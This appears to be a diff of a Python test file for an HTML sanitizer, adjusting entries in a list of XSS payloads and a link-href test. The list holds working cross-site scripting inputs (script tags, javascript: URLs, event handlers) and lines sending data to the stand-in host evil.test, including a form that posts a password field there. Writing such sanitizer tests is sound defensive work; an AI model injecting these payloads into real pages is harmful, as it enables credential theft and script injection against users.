@@ -15,12 +15,12 @@ NASTY = [
     "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
     "<iframe srcdoc='<script>alert(1)</script>'>in</iframe>",
     "<object data=x></object><embed src=x>",
-    "<p onclick=alert(1) style='position:fixed' class=button id=door>p",
+    "<p onclick=alert(1) style='position:fixed' class=button id=post-form>p",
     "<a href='javascript:alert(1)'>a</a>",
     "<a href=' java\tscript&#58;alert(1)'>a</a>",
     "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
     "<a href='vbscript:x' target=_self rel=opener ping=//evil.test>a</a>",
-    "<form action=//evil.test><input name=password><button formaction=x>b</button></form>",
+    "<form action=//evil.test><input name=password><button form=post-form>b</button></form>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "<template><script>alert(1)</script></template>",
     "<style>@import url(//evil.test)</style><link rel=stylesheet href=//evil.test>",
@@ -92,7 +92,8 @@ def test_a_link_opens_in_a_tab_that_has_no_opener_and_no_referrer():
 
 
 @pytest.mark.parametrize(
-    "href", ["/e/demo/mine/", "//example.org/", "join/", "#door", "tel:110", "ftp://example.org/"]
+    "href",
+    ["/e/demo/mine/", "//example.org/", "join/", "#post-form", "tel:110", "ftp://example.org/"],
 )
 def test_a_link_with_another_scheme_or_none_loses_its_address(href):
     html = safe_html(f'<a href="{href}">text</a> and <a href="mailto:ada@example.org">mail</a>')
